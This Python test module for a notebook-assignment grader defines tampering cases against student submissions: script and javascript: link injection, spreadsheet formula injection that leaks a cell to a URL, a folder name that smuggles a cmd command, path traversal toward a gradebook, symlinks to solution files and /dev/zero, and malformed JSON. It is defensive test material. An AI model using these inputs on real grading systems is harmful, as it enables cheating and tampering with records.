"""More of the tamper matrix: scripts, answers.json in every state, and odd folders."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

from hostile_class import (
    ATTACKS,
    MODEL,
    SCRIPT,
    Handed,
    attack,
    earns,
    nothing,
    shows,
    waiting,
)
from subject import Subject, entry

__all__ = ["ATTACKS"]


# -- scripts -------------------------------------------------------------------------------------


@attack("script-in-markdown")
def _(handed: Handed) -> None:
    cell = {"cell_type": "markdown", "metadata": {}, "source": SCRIPT, "id": "mark"}
    handed.cells.insert(1, cell)
    handed.cell()["source"] = SCRIPT


@attack("script-in-an-output")
def _(handed: Handed) -> None:
    bad = {"text/html": SCRIPT, "application/javascript": "pwned()", "image/svg+xml": SCRIPT}
    for cell in handed.cells:
        if cell["cell_type"] == "code":
            cell["outputs"].insert(0, shows(**bad))
    handed.copy()["html"] = SCRIPT


def _scripted(on: Subject) -> dict[str, Any]:
    first, second = on.texts[:2]
    boxes = {
        id: dict.fromkeys(answer, f"How {SCRIPT} was it?") if isinstance(answer, dict) else SCRIPT
        for id, answer in on.middling().items()
        if id in on.boxed
    }
    return {**on.middling(), first: SCRIPT, second: f"What {SCRIPT}?", **boxes,
            f"{first}/disagrees": SCRIPT}  # fmt: skip


def _typeset(on: Subject) -> dict[str, Any]:
    first, second = on.texts[:2]
    link = r"$\href{javascript:pwned()}{What happened}$?"
    return {**on.middling(), first: "$$x", second: link}


def _formula(on: Subject) -> dict[str, Any]:
    first, second = on.texts[:2]
    return {**on.middling(), first: '=HYPERLINK("http://example.org/?"&A1,"What")', second: "@x"}


def _hands_in(id: str, said: Callable[[Subject], dict[str, Any]]) -> None:
    """Adds one who typed these answers, in the notebook and beside it."""

    @attack(id, earns(said))
    def _(handed: Handed) -> None:
        answers = said(handed.on)
        handed.document, handed.notebook = handed.on.document(answers), handed.on.carried(answers)


_hands_in("script-in-an-answer", _scripted)
_hands_in("formula-that-is-typeset", _typeset)
_hands_in("formula-in-an-answer", _formula)


@attack("a-page-beside-it")
def _(handed: Handed) -> None:
    handed.folder.mkdir(parents=True)
    for name in (f"{handed.on.name}.html", "evil.html", "evil.svg", "evil.js", "styles.css"):
        (handed.folder / name).write_text(SCRIPT)
    (handed.folder / "deep" / "er").mkdir(parents=True)
    (handed.folder / "deep" / "er" / "evil.html").write_text(SCRIPT)


@attack("another-notebook-beside-it")
def _(handed: Handed) -> None:
    handed.run_first("")
    handed.folder.mkdir(parents=True)
    (handed.folder / "zz.ipynb").write_text(json.dumps(handed.notebook))
    (handed.folder / "00.ipynb").write_text("not JSON")


@attack("a-link-to-the-solutions")
def _(handed: Handed) -> None:
    handed.folder.mkdir(parents=True)
    solutions = handed.folder.parents[2] / "solutions" / handed.on.name / f"{handed.on.name}.ipynb"
    assert solutions.is_file()
    (handed.folder / "keys.html").symlink_to(solutions)
    (handed.folder / "keys.txt").symlink_to(solutions)


# -- answers.json --------------------------------------------------------------------------------


@attack("answers-missing")
def _(handed: Handed) -> None:
    handed.document = None


@attack("answers-missing-and-never-typed", nothing, why="There is no answers.json.")
def _(handed: Handed) -> None:
    handed.document, handed.notebook = None, handed.on.released()


@attack("answers-empty", nothing, why="answers.json is damaged")
def _(handed: Handed) -> None:
    handed.document, handed.notebook = b"", handed.on.released()


@attack("answers-not-json", why="answers.json is damaged")
def _(handed: Handed) -> None:
    handed.document = b"PK\x03\x04" + bytes(range(256))


@attack("answers-of-wrong-types", waiting(4), why="")
def _(handed: Handed) -> None:
    handed.notebook = handed.on.released()
    for item, odd in zip(handed.on.texts, (7, ["What?"], {"a": {"b": "c"}}, True), strict=False):
        handed.document["items"][item]["answer"] = odd


@attack("items-of-wrong-types", nothing, why="answers.json is damaged")
def _(handed: Handed) -> None:
    handed.document, handed.notebook = (
        {"format": 1, "items": [handed.on.items]},
        handed.on.released(),
    )


@attack("one-item-of-a-wrong-type", waiting(1), why="answers.json is damaged")
def _(handed: Handed) -> None:
    handed.document["items"][handed.on.texts[0]] = MODEL
    handed.notebook = handed.on.released()


@attack("answers-of-fifty-megabytes", nothing, why="MB and was not read")
def _(handed: Handed) -> None:
    handed.document, handed.notebook = json.dumps(handed.document).encode(), handed.on.released()
    handed.document += b" " * 50_000_000


def _instead(make: Callable[[Path, Subject], Any]) -> Callable[[Handed], None]:
    """Puts something else where answers.json would be, beside a notebook never typed in."""

    def change(handed: Handed) -> None:
        handed.document, handed.notebook = None, handed.on.released()
        handed.folder.mkdir(parents=True)
        make(handed.folder / "answers.json", handed.on)

    return change


def _to_a_better_one(path: Path, on: Subject) -> None:
    better = path.parents[2] / on.best / on.name / "answers.json"
    assert better.is_file()
    path.symlink_to(better)


_LINKED = "answers.json is a link or a folder, not a file, and was not opened"
attack("answers-a-link", nothing, why=_LINKED)(_instead(_to_a_better_one))
attack("answers-a-folder", nothing, why=_LINKED)(_instead(lambda path, on: path.mkdir()))
attack("answers-a-pipe", nothing, why=_LINKED)(_instead(lambda path, on: os.mkfifo(path)))
attack("answers-a-dangling-link", nothing, why=_LINKED)(
    _instead(lambda path, on: path.symlink_to("nowhere"))
)

attack("answers-without-end", nothing, why=_LINKED)(
    _instead(lambda path, on: path.symlink_to("/dev/zero"))
)


@attack("a-time-without-end")
def _(handed: Handed) -> None:
    handed.folder.mkdir(parents=True)
    (handed.folder / "timestamp.txt").symlink_to("/dev/zero")


@attack("pipes-and-devices-beside-it")
def _(handed: Handed) -> None:
    (handed.folder / "deep").mkdir(parents=True)
    os.mkfifo(handed.folder / "deep" / "timestamp.txt")
    (handed.folder / "submission_secret.txt").symlink_to("/dev/zero")


@attack("answers-of-another-learner", earns(lambda on: on.honest()[on.best]))
def _(handed: Handed) -> None:
    """Earns what those answers earn: copying is not detected, and no claim is made."""
    handed.document = handed.on.document(handed.on.honest()[handed.on.best], handed.on.best)
    handed.notebook = handed.on.released()


@attack("answers-of-another-assignment", nothing, why="belongs to another assignment")
def _(handed: Handed) -> None:
    handed.document, handed.notebook = (
        handed.on.document({"a99-first": MODEL}),
        handed.on.released(),
    )


def _odd(on: Subject) -> dict[str, Any]:
    said = on.middling()
    return {**said, **{id: f"\0{said[id]}\u202e\0" for id in on.texts}}


def _kept(on: Subject) -> dict[str, Any]:
    return {**_odd(on), **{id: _odd(on)[id].replace("\0", "") for id in on.texts}}


@attack("nul-and-bidi", earns(_kept))
def _(handed: Handed) -> None:
    handed.document, handed.notebook = handed.on.document(_odd(handed.on)), handed.on.released()


def _halves(on: Subject, half: str, other: str) -> dict[str, Any]:
    first, second = on.texts[:2]
    return {**on.middling(), first: half * 2, second: f"What {other}happened?"}


@attack("half-characters", earns(lambda on: _halves(on, "\ufffd", "\ufffd")))
def _(handed: Handed) -> None:
    said = _halves(handed.on, "\ud83d", "\ude00")
    handed.document, handed.notebook = handed.on.document(said), handed.on.carried(said)


@attack("nested-deep", waiting(1))
def _(handed: Handed) -> None:
    handed.document["items"][handed.on.texts[0]]["answer"] = "DEEP"
    deep = '{"a":' * 700 + "1" + "}" * 700
    handed.document = json.dumps(handed.document).replace('"DEEP"', deep).encode()
    handed.notebook = handed.on.released()


@attack("nested-too-deep", nothing, why="answers.json is damaged")
def _(handed: Handed) -> None:
    handed.document, handed.notebook = b'{"items":' + b"[" * 1_000_000, handed.on.released()


@attack("an-answer-too-long", waiting(1))
def _(handed: Handed) -> None:
    handed.document["items"][handed.on.texts[0]]["answer"] = f"{MODEL} " * 1000
    handed.notebook = handed.on.released()


@attack("huge-numbers", why="")
def _(handed: Handed) -> None:
    for item in handed.on.items:
        handed.document["items"][item]["revision"] = 10**4000
        handed.copy(item).update(answer=MODEL, revision=10**3999)


@attack("the-copy-is-later", earns(lambda on: {**on.middling(), on.texts[0]: MODEL}))
def _(handed: Handed) -> None:
    handed.copy().update(entry(MODEL, 2))


@attack("the-copy-is-earlier")
def _(handed: Handed) -> None:
    handed.document["items"][handed.on.texts[0]]["revision"] = 3
    handed.copy().update(entry(MODEL, 2))


def _contrary(on: Subject) -> dict[str, Any]:
    return {f"{item}/disagrees": "I should have all the points." for item in on.items}


@attack("disagrees-with-everything", earns(lambda on: {**on.middling(), **_contrary(on)}))
def _(handed: Handed) -> None:
    handed.document["items"] |= handed.on.document(_contrary(handed.on))["items"]


@attack("names-that-lead-elsewhere")
def _(handed: Handed) -> None:
    handed.document["assignment"] = handed.document["learner"] = "../../../gradebook.db"
    handed.document["items"]["../../../gradebook.db"] = entry(MODEL, 9)
    handed.document["items"]["{}/../{}".format(*handed.on.items[:2])] = entry(MODEL, 9)
    handed.copy()["item"] = "../../../gradebook.db"


# -- the folder ----------------------------------------------------------------------------------


@attack("notebook-not-json", why="is no notebook")
def _(handed: Handed) -> None:
    handed.notebook = "this is no notebook <script>pwned()</script>"


@attack("notebook-missing", why="There is no ", nbgrader="skipped")
def _(handed: Handed) -> None:
    handed.notebook = None


@attack("notebook-renamed", why="There is no ", nbgrader="error")
def _(handed: Handed) -> None:
    handed.folder.mkdir(parents=True)
    (handed.folder / "my copy.ipynb").write_text(json.dumps(handed.notebook))
    handed.notebook = None


@attack("notebook-a-folder", why=".ipynb is a link or a folder")
def _(handed: Handed) -> None:
    handed.notebook = None
    (handed.folder / f"{handed.on.name}.ipynb").mkdir(parents=True)


@attack("notebook-a-link", nothing, why=".ipynb is a link or a folder")
def _(handed: Handed) -> None:
    handed.notebook = handed.document = None
    handed.folder.mkdir(parents=True)
    better = handed.folder.parents[1] / handed.on.best / handed.on.name / f"{handed.on.name}.ipynb"
    (handed.folder / f"{handed.on.name}.ipynb").symlink_to(better)


def _file_for_a_folder(handed: Handed) -> None:
    shutil.rmtree(handed.folder)
    handed.folder.write_text("all my answers")


attack(
    "folder-a-file", nothing, why="cannot be read (Not a directory)", nbgrader="skipped",
    after=_file_for_a_folder,
)(lambda handed: None)  # fmt: skip


def _link_the_folder(handed: Handed) -> None:
    shutil.rmtree(handed.folder)
    handed.folder.symlink_to(handed.folder.parents[1] / handed.on.best / handed.on.name)


attack("folder-a-link", nothing, why="is a link, not a folder", after=_link_the_folder)(
    lambda handed: None
)


@attack("time-that-is-none", nbgrader="error")
def _(handed: Handed) -> None:
    handed.folder.mkdir(parents=True)
    (handed.folder / "timestamp.txt").write_text("<script>pwned()</script>")


@attack("=cmd('pwned') & b")
def _(handed: Handed) -> None:
    """The name of the folder itself."""
